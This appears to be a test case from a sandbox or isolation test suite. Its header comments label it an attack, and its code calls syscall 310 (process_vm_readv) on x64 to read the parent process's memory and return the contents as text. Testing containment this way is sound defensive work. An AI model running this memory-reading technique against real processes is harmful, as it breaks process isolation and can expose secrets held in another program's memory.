// attack: Reads the parent's memory by process_vm_readv.
// group: parent
// at none: gets-through
// uses: native
// needs: x64

var buffer = Native.Zeros(Stage.MemoryBytes);
var count = Native.Call(310, Stage.Parent, Native.Words(buffer, Stage.MemoryBytes), 1, Native.Words(Stage.Memory, Stage.MemoryBytes), 1, 0);
count > 0 ? $"the parent's memory says '{Native.Ascii(buffer, (int)count)}'" : null
